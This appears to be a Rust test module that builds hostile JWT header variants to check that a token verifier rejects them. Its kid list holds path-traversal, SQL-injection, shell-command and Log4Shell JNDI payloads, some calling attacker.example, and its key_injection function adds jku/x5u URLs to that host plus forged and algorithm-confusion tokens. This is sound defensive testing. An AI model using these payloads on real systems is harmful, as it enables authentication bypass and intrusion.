//! Headers that choose a key, change what the signature means, or belong to another kind of token.

use super::fixture::{KEYS, base64url, header, hmac_sha256, token};
use super::{ALGORITHM, KEY, SHAPE, TYPE, Variants};
use serde_json::{Value, json};

pub(super) fn key_id(all: &mut Variants<'_>) {
    let kids = [
        ("ec-2", KEY),
        ("EC-1", KEY),
        ("../../../dev/null", KEY),
        ("..%2f..%2fdev%2fnull", KEY),
        ("file:///dev/null", KEY),
        ("https://attacker.example/key", KEY),
        ("'OR'1'='1", KEY),
        ("ec-1';SELECT(pg_sleep(9))--", KEY),
        ("ec-1;id", KEY),
        ("|id", KEY),
        ("$(id)", KEY),
        ("${jndi:ldap://attacker.example/a}", KEY),
        ("ec-1 ", SHAPE),
        (" ec-1", SHAPE),
        ("", SHAPE),
        ("ec-1\u{0}", SHAPE),
        ("ec-1\r\nx:y", SHAPE),
        ("ключ", SHAPE),
    ];
    for (kid, code) in kids {
        all.header(format!("`{}`", kid.escape_debug()), code, |h| h["kid"] = json!(kid));
    }
    for length in [129, 4096] {
        all.header(format!("of {length} bytes"), SHAPE, |h| {
            h["kid"] = json!("k".repeat(length))
        });
    }
    all.header("missing", SHAPE, |h| drop(h.as_object_mut().unwrap().remove("kid")));
    for kid in [json!(1), json!(null), json!(["ec-1"]), json!({"kid": "ec-1"})] {
        all.header(kid.to_string(), SHAPE, |h| h["kid"] = kid.clone());
    }
}

pub(super) fn key_injection(all: &mut Variants<'_>) {
    let stranger = KEYS.stranger.jwk("ec-1");
    let members = [
        ("jwk", stranger.clone()),
        ("jku", json!("https://attacker.example/jwks")),
        ("jku", json!(format!("{}/jwks", all.idp.issuer))),
        ("x5u", json!("https://attacker.example/cert")),
        ("x5c", json!([base64url(b"certificate")])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("epk", stranger),
    ];
    let claims = all.idp.claims().to_string();
    for (name, value) in members {
        all.header(format!("`{name}`, good signature"), SHAPE, |h| h[name] = value.clone());
        let mut head = header("ES256", "ec-1");
        head[name] = value;
        let forged = token(&head.to_string(), &claims, |m| KEYS.stranger.sign(m));
        all.push(format!("`{name}`, signed by whom it names"), SHAPE, forged);
    }
    let mut head = header("HS256", "ec-1");
    head["jwk"] = json!({"kty": "oct", "k": base64url(b"known")});
    let forged = token(&head.to_string(), &claims, |m| hmac_sha256(b"known", m));
    all.push("`jwk` with a secret", SHAPE, forged);
    let forged = token(&header("EdDSA", "ec-1").to_string(), &claims, |_| vec![0; 64]);
    all.push("another kind of key under the same name", ALGORITHM, forged);
}

pub(super) fn critical(all: &mut Variants<'_>) {
    for (name, value) in [
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["https://attacker.example/unknown"])),
        ("crit", json!([])),
        ("crit", json!("exp")),
        ("crit", json!(null)),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("cty", json!("JWT")),
        ("enc", json!("A256GCM")),
        ("p2c", json!(2_000_000_000)),
        ("iss", json!("somebody")),
        ("KID", json!("ec-1")),
        ("", json!("")),
    ] {
        all.header(format!("`{name}` {value}"), SHAPE, |h| h[name] = value.clone());
    }
    // RFC 7797: the payload is signed and sent as it is.
    let mut head = header("ES256", "ec-1");
    head["b64"] = json!(false);
    head["crit"] = json!(["b64"]);
    let signed = format!("{}.{}", base64url(head.to_string()), all.idp.claims());
    let signature = base64url(KEYS.ec.sign(signed.as_bytes()));
    all.push("a payload that is not encoded", SHAPE, format!("{signed}.{signature}"));
}

pub(super) fn token_type(all: &mut Variants<'_>) {
    for typ in [
        "JWT",
        "jwt",
        "AT+JWT",
        "at+jwt ",
        "logout+jwt",
        "dpop+jwt",
        "JOSE",
        "application/jwt",
        "id+jwt",
        "",
    ] {
        all.header(format!("`{typ}`"), TYPE, |h| h["typ"] = json!(typ));
    }
    all.header("missing", TYPE, |h| drop(h.as_object_mut().unwrap().remove("typ")));
    for typ in [json!(["at+jwt"]), json!(null), json!(1)] {
        all.header(typ.to_string(), SHAPE, |h| h["typ"] = typ.clone());
    }
    // What Keycloak writes among the claims.
    for typ in [
        json!("ID"),
        json!("Refresh"),
        json!("Logout"),
        json!("bearer"),
        json!(""),
        json!(null),
        json!(["Bearer"]),
    ] {
        all.claims(format!("claim {typ}"), TYPE, |c: &mut Value| c["typ"] = typ.clone());
    }
}
